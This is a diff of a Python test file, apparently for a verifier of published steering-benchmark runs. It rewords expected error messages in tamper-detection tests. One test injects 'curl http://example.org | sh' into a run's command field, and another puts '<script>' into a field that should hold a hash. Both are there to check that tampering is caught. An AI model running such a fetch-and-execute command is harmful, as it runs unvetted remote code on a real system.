@@ -54,7 +54,7 @@ def disagreeing(folder, said=lambda told: None, samples=lambda frame: frame):
 def test_samples_are_those_that_the_run_vouches_for(toy, tmp_path):
     run = copied(toy, tmp_path)
     edit(run, lambda told: told.update(samples_sha256="0" * 64))
-    assert f"and published.json says {'0' * 64}" in problems(run)[0]
+    assert f"but published.json says {'0' * 64}" in problems(run)[0]
 
 
 BETTER = {"against": "toy-three", "difference": -1.0, "p": 0.0, "p_holm": 0.0}
@@ -79,8 +79,8 @@ def row(told):
         (lambda t: row(t)["strengths"].update(p0=5.0), "strengths: said"),
         (lambda t: row(t)["wordings"].update(p0=1), "wordings: said {'p0': 1}, recomputed {}"),
         (lambda t: row(t)["settings"]["toy-push"].update(size=9.0), "settings: said"),
-        (lambda t: t.update(higher_is_better=True), "higher_is_better is True, and the task says False"),
-        (lambda t: t.update(targets=4), "targets are 4, and the samples have 3"),
+        (lambda t: t.update(higher_is_better=True), "higher_is_better is True, but the task says False"),
+        (lambda t: t.update(targets=4), "targets are 4, but the samples have 3"),
     ],
 )  # fmt: skip
 def test_every_number_and_word_of_a_row_is_recomputed(toy, change, named):
@@ -95,14 +95,14 @@ def test_every_number_and_word_of_a_row_is_recomputed(toy, change, named):
         (lambda t: t.update(digest="0" * 64), "digest: said 000"),
         (lambda t: t["identity"].update(steerbench="9"), "digest: said"),
         (lambda t: t["identity"]["task"].update(dataset="other"), "identity.task.dataset: said 'other', but here"),
-        (lambda t: t["plan"].update(seed=1), "identity.plan: is not that of the plan"),
+        (lambda t: t["plan"].update(seed=1), "identity.plan: differs from the plan"),
         (lambda t: t["plan"].update(strength=2.0), "identity.plan: lacks the strengths"),
         (lambda t: t["plan"].update(method_parameters={"toy-push": {"size": 2.0}}), "has other parameters than"),
         (lambda t: t["plan"].update(model="big-model"), "model: said 'toy-model', but by its plan"),
         (lambda t: t.update(command="curl http://example.org | sh"), "command: said 'curl http"),
-        (lambda t: t["methods"].pop("toy-three"), "methods: the identity, the plan and the rows name different ones"),
+        (lambda t: t["methods"].pop("toy-three"), "methods: the identity, the plan and the rows have different names"),
         (lambda t: t.update(judges={"trait": JUDGE}), "judges: the identity and the results name different roles"),
-        (lambda t: t["timings"]["methods"]["toy-push"].update(fit=-1.0), "timings: something took less than nothing"),
+        (lambda t: t["timings"]["methods"]["toy-push"].update(fit=-1.0), "timings: a duration or the memory"),
     ],
 )  # fmt: skip
 def test_what_a_run_says_of_itself_has_to_agree_with_itself_and_with_the_registry(toy, change, named):
@@ -155,7 +155,7 @@ def test_a_tampered_rating_is_found_in_the_sample_and_in_the_number(rated, tmp_p
         (lambda v: v[0].update(case="0" * 32), "has a verdict on another answer"),
         (lambda v: v[0].update(quality="fluency"), "has a verdict on another answer"),
         (lambda v: v[0].update(more=1), "has a verdict of another form"),
-        (lambda v: v.pop(), "has not one verdict for each of its cases"),
+        (lambda v: v.pop(), "does not have one verdict for each of its cases"),
     ],
 )
 def test_a_verdict_belongs_to_its_answer_and_is_one(rated, change, named):
@@ -180,17 +180,17 @@ def test_a_text_that_was_not_what_the_judge_read_is_found(rated):
         (put("toy-push", "p0", "i7", item="i1"), "has item 'i1', which the run does not ask"),
         (put("toy-push", "p0", "i7", method="toy-other"), "which the run does not ask"),
         (put("toy-push", "p0", "i7", question="Say 8."), "the question is not the one that the task asks"),
-        (put("toy-push", "p0", "i7", edits="<script>"), "edits is no hash"),
-        (put("toy-push", "p0", "i7", strength=None), "strength, wording or reason is missing"),
-        (put("toy-push", "p0", "i7", strength=float("inf")), "its setting is none that a dial has"),
-        (put("toy-push", "p0", "i7", logprobs=None), "it holds no answer"),
-        (put("toy-push", "p0", "i7", tick=3.0), "is of two kinds"),
-        (put("toy-push", "p0", "i7", logprobs=None, text="3", finish="stop"), "half of one"),
-        (put("toy-push", "p0", "i7", logprobs=None, text="3", tokens=1, finish="never"), "ends in no way"),
+        (put("toy-push", "p0", "i7", edits="<script>"), "edits are not a hash"),
+        (put("toy-push", "p0", "i7", strength=None), "strength, wording or unscored is missing"),
+        (put("toy-push", "p0", "i7", strength=float("inf")), "its strength or wording is outside"),
+        (put("toy-push", "p0", "i7", logprobs=None), "it has no answer"),
+        (put("toy-push", "p0", "i7", tick=3.0), "is an answer of two kinds"),
+        (put("toy-push", "p0", "i7", logprobs=None, text="3", finish="stop"), "an incomplete one"),
+        (put("toy-push", "p0", "i7", logprobs=None, text="3", tokens=1, finish="never"), "has an impossible ending"),
         (put("toy-push", "p0", "i7", logprobs=[1.0, 2.0]), "the answer cannot be scored"),
         (put("toy-push", "p0", "i7", logprobs=[float("inf")] * 5), "has no log-likelihoods"),
-        (put("toy-three", "p0", "i7", tick=float("nan")), "is a tick that is no number"),
-        (put("toy-push", "p0", "i7", verdicts="[]"), "has verdicts, and was not rated"),
+        (put("toy-three", "p0", "i7", tick=float("nan")), "is a tick that is not a number"),
+        (put("toy-push", "p0", "i7", verdicts="[]"), "has verdicts, but is not rated"),
         (put("toy-push", "p0", "i7", unscored="was ill"), "loss and reason are said to be"),
     ],
 )  # fmt: skip
